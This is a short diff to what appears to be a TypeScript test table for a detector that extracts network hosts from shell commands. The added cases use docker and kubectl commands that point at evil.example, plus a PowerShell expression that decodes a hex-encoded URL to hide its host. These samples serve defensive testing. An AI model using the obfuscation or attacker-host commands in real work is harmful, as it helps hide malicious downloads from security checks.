@@ -135,6 +135,13 @@ const COMMANDS: Readonly<Record<string, readonly string[]>> = {
     "a.evil.example",
   ],
   "docker pull 9.8.7.6:5000/img": ["9.8.7.6"],
+  "docker login evil.example -u x": ["evil.example"],
+  "kubectl set image deployment/web web=evil.example/web:2": ["evil.example"],
+  [
+    `-join ('${
+      new TextEncoder().encode("http://evil.example/x").toHex()
+    }' -split '(..)' | % {[char][convert]::ToInt32($_,16)})`
+  ]: ["http://evil.example/x", "evil.example"],
   "docker -H tcp://9.8.7.6:2375 ps": ["9.8.7.6"],
   "docker run -v a.conf/x:/b -e A=b.conf/c nginx:1.25 bitnami/redis:7.2": [],
   "podman pull a.ru/x/y; crictl pull b.ru/z:1; nerdctl run c.ru/w": [
